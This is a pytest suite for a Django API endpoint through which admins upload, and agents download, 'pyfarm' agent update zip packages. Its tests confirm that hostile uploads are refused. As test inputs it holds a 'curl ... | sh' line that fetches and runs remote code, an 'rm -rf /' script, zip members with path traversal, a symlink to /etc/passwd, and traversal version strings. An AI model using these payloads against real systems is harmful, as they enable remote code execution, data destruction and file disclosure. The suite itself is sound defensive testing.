"""Agent update packages: upload (admins) and download (R17, the agent)."""

from __future__ import annotations

import io
import json
import stat
import warnings
import zipfile
from pathlib import Path
from typing import Any

import pytest
from rest_framework.test import APIClient

pytestmark = pytest.mark.django_db

ENDPOINT = "/api/v1/agents/updates/"


AGENT_CODE = ("pyfarm/agent/__init__.py", "pyfarm/agent/entrypoints/main.py")


def _zip(
    text: str = "print('hello')\n",
    names: tuple[str, ...] = AGENT_CODE,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """An update package: the agent's code (or the given members)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name in names:
            archive.writestr(name, text)
    return buffer.getvalue()


PACKAGE = _zip()


def _error(response: Any) -> str:
    assert response["Content-Type"] == "application/json"
    body = json.loads(response.content)
    assert set(body) == {"error"}
    return body["error"]


def _content(response: Any) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.fixture
def updates_dir(tmp_path: Path, farm_config: Any) -> Path:
    """``agent_updates_dir`` below pytest's tmp_path; not created yet."""
    directory = tmp_path / "updates"
    farm_config(agent_updates_dir=str(directory), agent_updates_webdir=None)
    return directory


@pytest.fixture
def downloader() -> APIClient:
    """The agent's download (R17): an agent network, no User-Agent at all."""
    return APIClient(REMOTE_ADDR="10.20.30.40")


def _upload(client: Any, version: str, data: bytes = PACKAGE, **extra: Any) -> Any:
    extra.setdefault("content_type", "application/zip")
    return client.put(f"{ENDPOINT}{version}", data=data, **extra)


# --- PUT ---------------------------------------------------------------------


def test_upload_of_a_new_version_answers_201(admin_api_client, updates_dir) -> None:
    response = _upload(admin_api_client, "1.2.3")
    assert response.status_code == 201
    assert response.json() == {
        "version": "1.2.3",
        "filename": "pyfarm-agent-1.2.3.zip",
    }


def test_upload_stores_the_package_under_its_documented_name(
    admin_api_client, updates_dir
) -> None:
    _upload(admin_api_client, "1.2.3")
    assert (updates_dir / "pyfarm-agent-1.2.3.zip").read_bytes() == PACKAGE
    assert [path.name for path in updates_dir.iterdir()] == ["pyfarm-agent-1.2.3.zip"]


def test_upload_of_a_known_version_replaces_it_with_200(
    admin_api_client, updates_dir
) -> None:
    _upload(admin_api_client, "1.2.3")
    newer = _zip("print('newer')\n")
    response = _upload(admin_api_client, "1.2.3", newer)
    assert response.status_code == 200
    assert (updates_dir / "pyfarm-agent-1.2.3.zip").read_bytes() == newer


@pytest.mark.parametrize(
    "content_type", ["application/octet-stream", "application/x-zip-compressed"]
)
def test_upload_accepts_any_content_type(
    admin_api_client, updates_dir, content_type
) -> None:
    response = _upload(admin_api_client, "1.2.3", content_type=content_type)
    assert response.status_code == 201


def test_upload_refuses_what_is_not_a_zip_file(admin_api_client, updates_dir) -> None:
    response = _upload(admin_api_client, "1.2.3", b"#!/bin/sh\nrm -rf /\n")
    assert response.status_code == 400
    assert "zip" in _error(response)
    assert not (updates_dir / "pyfarm-agent-1.2.3.zip").exists()


def test_upload_refuses_an_empty_body(admin_api_client, updates_dir) -> None:
    response = _upload(admin_api_client, "1.2.3", b"")
    assert response.status_code == 400
    assert "zip" in _error(response)


def test_upload_refuses_packages_over_max_upload_size(
    admin_api_client, updates_dir, farm_config
) -> None:
    farm_config(max_upload_size=len(PACKAGE) - 1)
    response = _upload(admin_api_client, "1.2.3")
    assert response.status_code == 413
    assert str(len(PACKAGE) - 1) in _error(response)
    assert not updates_dir.exists()


# An end-of-central-directory record of an empty archive.
EMPTY_END_RECORD = b"PK\x05\x06" + bytes(18)
SCRIPT = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"


def _refused(client: Any, updates_dir: Path, package: bytes) -> str:
    """Upload ``package``: 400 with a JSON error, and nothing stored."""
    response = _upload(client, "1.2.3", package)
    assert response.status_code == 400
    assert not (updates_dir / "pyfarm-agent-1.2.3.zip").exists()
    return _error(response)


def test_upload_refuses_a_script_with_a_zip_end_record_appended(
    admin_api_client, updates_dir
) -> None:
    package = SCRIPT + EMPTY_END_RECORD
    assert zipfile.is_zipfile(io.BytesIO(package))
    assert "zip" in _refused(admin_api_client, updates_dir, package)


def test_upload_refuses_a_script_with_a_zip_archive_appended(
    admin_api_client, updates_dir
) -> None:
    package = SCRIPT + PACKAGE
    assert zipfile.ZipFile(io.BytesIO(package)).testzip() is None
    assert "zip" in _refused(admin_api_client, updates_dir, package)


def test_upload_refuses_a_zip_archive_prefixed_by_another(
    admin_api_client, updates_dir
) -> None:
    package = _zip(names=("README",)) + PACKAGE
    assert "before" in _refused(admin_api_client, updates_dir, package)


def test_upload_refuses_data_after_the_archive(admin_api_client, updates_dir) -> None:
    package = PACKAGE + SCRIPT
    assert "after" in _refused(admin_api_client, updates_dir, package)


def test_upload_refuses_an_empty_archive(admin_api_client, updates_dir) -> None:
    package = EMPTY_END_RECORD
    assert "zip" in _refused(admin_api_client, updates_dir, package)


@pytest.mark.parametrize(
    "name",
    [
        "/etc/cron.d/pyfarm",
        "../../../etc/cron.d/pyfarm",
        "pyfarm/../../x.py",
        "C:/Windows/x.dll",
        "pyfarm\\..\\..\\x.py",
        "pyfarm/a\x01.py",
    ],
)
def test_upload_refuses_members_that_leave_the_directory(
    admin_api_client, updates_dir, name
) -> None:
    package = _zip(names=(*AGENT_CODE, name))
    assert "safely" in _refused(admin_api_client, updates_dir, package)


def test_upload_refuses_a_damaged_archive(admin_api_client, updates_dir) -> None:
    package = bytearray(_zip("x" * 1000, compression=zipfile.ZIP_STORED))
    offset = package.index(b"x" * 100)
    package[offset] = ord("y")
    assert "CRC" in _refused(admin_api_client, updates_dir, bytes(package))


def test_upload_refuses_an_archive_without_the_agents_code(
    admin_api_client, updates_dir
) -> None:
    package = _zip(names=("pyfarm/agent/__init__.py", "README.txt"))
    assert "pyfarm-agent code" in _refused(admin_api_client, updates_dir, package)


def test_upload_refuses_compressions_the_agent_cannot_extract(
    admin_api_client, updates_dir
) -> None:
    package = _zip(compression=zipfile.ZIP_BZIP2)
    assert "stored or deflated" in _refused(admin_api_client, updates_dir, package)


def test_upload_refuses_encrypted_members(admin_api_client, updates_dir) -> None:
    # zipfile cannot encrypt: set the "encrypted" flag of every header.
    package = bytearray(PACKAGE)
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := package.find(signature, start)) != -1:
            package[start + flags_at] |= 0x1
            start += 1
    assert "encrypted" in _refused(admin_api_client, updates_dir, bytes(package))


def test_upload_refuses_symbolic_links(admin_api_client, updates_dir) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in AGENT_CODE:
            archive.writestr(name, "")
        link = zipfile.ZipInfo("pyfarm/agent/config.py")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    assert "link" in _refused(admin_api_client, updates_dir, buffer.getvalue())


def test_upload_refuses_a_member_listed_twice(admin_api_client, updates_dir) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        package = _zip(names=(*AGENT_CODE, AGENT_CODE[1]))
    assert "twice" in _refused(admin_api_client, updates_dir, package)


def test_upload_refuses_more_content_than_max_upload_size(
    admin_api_client, updates_dir, farm_config
) -> None:
    package = _zip("\0" * 100_000)
    farm_config(max_upload_size=50_000)
    assert len(package) < 50_000
    assert "50000" in _refused(admin_api_client, updates_dir, package)


def test_upload_accepts_the_package_contents_at_the_top(
    admin_api_client, updates_dir
) -> None:
    package = _zip(
        names=("__init__.py", "entrypoints/__init__.py", "entrypoints/main.py")
    )
    assert _upload(admin_api_client, "1.2.3", package).status_code == 201


@pytest.mark.parametrize(
    "version", ["..", "..%2F..%2Fetc", "1.2%2F3", "1.2%5C3", "a..b", ".hidden", "1 2"]
)
def test_upload_refuses_versions_unfit_for_a_file_name(
    admin_api_client, updates_dir, version
) -> None:
    response = _upload(admin_api_client, version)
    assert response.status_code == 400
    assert "version" in _error(response)
    assert not updates_dir.exists()


def test_upload_refuses_a_version_with_a_raw_slash(
    admin_api_client, updates_dir
) -> None:
    response = _upload(admin_api_client, "../../etc")
    assert response.status_code == 400
    assert not updates_dir.exists()


def test_upload_is_for_admins_only(api_client, updates_dir) -> None:
    response = _upload(api_client, "1.2.3")
    assert response.status_code == 403
    assert _error(response)
    assert not updates_dir.exists()


def test_upload_is_not_open_to_agent_networks(downloader, updates_dir) -> None:
    response = _upload(downloader, "1.2.3")
    assert response.status_code == 401
    assert not updates_dir.exists()


# --- GET (R17) ---------------------------------------------------------------


def test_agent_downloads_the_package(admin_api_client, downloader, updates_dir) -> None:
    _upload(admin_api_client, "1.2.3")
    response = downloader.get(f"{ENDPOINT}1.2.3")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert _content(response) == PACKAGE


def test_download_of_an_unknown_version_is_a_json_404(downloader, updates_dir) -> None:
    response = downloader.get(f"{ENDPOINT}99.0.0")
    assert response.status_code == 404
    assert "99.0.0" in _error(response)


def test_download_redirects_to_the_webdir_when_one_is_set(
    downloader, updates_dir, farm_config
) -> None:
    farm_config(agent_updates_webdir="https://downloads.example.com/pyfarm/")
    response = downloader.get(f"{ENDPOINT}1.2.3")
    assert response.status_code == 301
    assert (
        response["Location"]
        == "https://downloads.example.com/pyfarm/pyfarm-agent-1.2.3.zip"
    )


@pytest.mark.parametrize("version", ["..", "..%2Fsecret", "a..b"])
def test_download_refuses_versions_unfit_for_a_file_name(
    downloader, updates_dir, version
) -> None:
    response = downloader.get(f"{ENDPOINT}{version}")
    assert response.status_code == 400
    assert "version" in _error(response)


def test_download_needs_an_agent_network_or_a_user(
    anonymous_client, updates_dir
) -> None:
    response = anonymous_client.get(f"{ENDPOINT}1.2.3")
    assert response.status_code == 401
    assert _error(response)


def test_users_may_download_packages(admin_api_client, api_client, updates_dir) -> None:
    _upload(admin_api_client, "1.2.3")
    assert api_client.get(f"{ENDPOINT}1.2.3").status_code == 200


@pytest.mark.parametrize(
    "version",
    ["1.0", "0.8.6+local", "a_b-c", "1..0", ".hidden", "a/b", "", "x" * 65, "1.0\n"],
)
def test_the_schema_states_the_versions_the_service_accepts(version: str) -> None:
    import re

    from django.core.exceptions import ValidationError

    from farm.api.views.agents import UPDATE_VERSION_PARAMETER
    from farm.services.agents import UPDATE_VERSION_PATTERN, agent_update_filename

    assert UPDATE_VERSION_PARAMETER.pattern == UPDATE_VERSION_PATTERN
    try:
        agent_update_filename(version)
        accepted = True
    except ValidationError:
        accepted = False
    assert accepted == bool(re.fullmatch(UPDATE_VERSION_PATTERN, version))
